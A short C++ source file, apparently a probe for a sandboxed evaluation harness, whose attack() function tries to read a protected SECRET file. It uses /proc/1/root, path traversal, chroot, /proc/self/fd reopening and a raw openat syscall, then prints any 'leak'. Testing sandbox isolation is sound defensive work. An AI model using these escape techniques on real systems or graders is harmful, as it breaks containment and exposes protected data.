#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <cstdio>
static void show(int file) {
    char text[4096];
    const ssize_t size = file >= 0 ? read(file, text, sizeof text) : -1;
    if (size > 0) std::printf("leak: %.*s\n", int(size), text);
}
float attack() {
    show(open(SECRET, O_RDONLY));
    show(open("/proc/1/root" SECRET, O_RDONLY));
    show(open("../../../../../../.." SECRET, O_RDONLY));
    chroot("/");
    const int path = open(SECRET, O_PATH);
    char name[64];
    std::snprintf(name, sizeof name, "/proc/self/fd/%d", path);
    show(open(name, O_RDONLY));
    show(int(syscall(SYS_openat, AT_FDCWD, SECRET, O_RDONLY)));
    std::fflush(stdout);
    return 0.0f;
}
